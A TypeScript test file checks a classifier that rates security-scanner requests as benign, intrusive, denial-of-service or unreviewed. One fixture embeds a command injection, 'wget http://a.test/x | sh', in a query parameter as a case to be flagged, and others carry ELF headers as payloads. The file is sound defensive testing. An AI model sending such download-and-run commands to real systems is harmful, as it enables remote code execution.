import type { SigRequest } from '@rushhour/contract';
import { expect, it } from 'vitest';
import { isSafer, safetyOf } from './safety.ts';

const get: SigRequest = { idx: 0, kind: 'http', method: 'GET', path: '/' };
const judged = (more: object) =>
  safetyOf({
    requests: [get],
    responses: [],
    payloads: [],
    cweIDs: [],
    tags: '',
    maxAttempts: 50,
    combine: 'batteringram',
    ...more,
  });
const upload = {
  ...get,
  method: 'POST',
  headers: [{ name: 'Content-Type', value: 'multipart/form-data; boundary=b' }],
  body: '--b\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nx\r\n--b--',
};
const raw = (data: string, encoding: 'text' | 'hex' | 'base64' = 'text') => ({
  idx: 0,
  kind: 'raw',
  transport: 'tcp',
  data,
  encoding,
});
const program = Buffer.from('\x7fELF\x02\x01', 'latin1');

it.each([
  ['a plain request', {}, 'benign'],
  ['the tag dos', { tags: 'web,dos' }, 'dos'],
  ['a weakness of exhaustion', { cweIDs: ['CWE-400'] }, 'dos'],
  [
    'more than a hundred attempts',
    { payloads: [{ name: 'p', values: Array.from({ length: 200 }, String) }], maxAttempts: 2000 },
    'dos',
  ],
  ['the tag intrusive', { tags: 'intrusive' }, 'intrusive'],
  ['the tag bruteforce', { tags: 'bruteforce' }, 'intrusive'],
  ['a PUT with a body', { requests: [{ ...get, method: 'PUT', body: 'x' }] }, 'intrusive'],
  ['a DELETE without a body', { requests: [{ ...get, method: 'DELETE' }] }, 'benign'],
  ['a file upload', { requests: [upload] }, 'intrusive'],
  ['a form without a file', { requests: [{ ...upload, body: 'x' }] }, 'benign'],
  ['a verb that writes', { requests: [raw('SET key value\r\n')] }, 'intrusive'],
  ['a verb that reads', { requests: [raw('GET key\r\n')] }, 'benign'],
  ['a download that is run', { requests: [{ ...get, path: '/?c=wget http://a.test/x | sh' }] }, 'unreviewed'],
  ['a program in a payload', { requests: [raw(program.toString('base64'), 'base64')] }, 'unreviewed'],
  ['a program in hexadecimal', { requests: [raw(program.toString('hex'), 'hex')] }, 'unreviewed'],
  ['much base64', { requests: [{ ...get, body: 'A'.repeat(9000) }] }, 'unreviewed'],
])('%s is %s', (_, more, expected) => {
  expect(judged(more)).toBe(expected);
});

it('benign is the safest, dos the least', () => {
  expect([
    isSafer('benign', 'unreviewed'),
    isSafer('unreviewed', 'intrusive'),
    isSafer('intrusive', 'dos'),
    isSafer('dos', 'benign'),
  ]).toEqual([true, true, true, false]);
});
